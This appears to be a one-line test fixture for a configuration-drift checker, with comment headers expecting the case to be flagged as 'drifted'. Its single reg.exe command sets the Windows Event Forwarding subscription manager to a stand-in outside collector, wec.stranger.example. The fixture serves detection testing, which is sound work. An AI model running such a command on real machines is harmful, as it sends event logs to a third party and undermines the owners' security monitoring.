# Events go to a collector of somebody else.
# kind: value
# flips: FWD-01
# expect: drifted
# alone: yes
reg.exe add 'HKLM\SOFTWARE\Policies\Microsoft\Windows\EventLog\EventForwarding\SubscriptionManager' /v 1 /t REG_SZ /d 'Server=https://wec.stranger.example:5986/wsman/SubscriptionManager/WEC,Refresh=60,IssuerCA=0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a' /f /reg:64
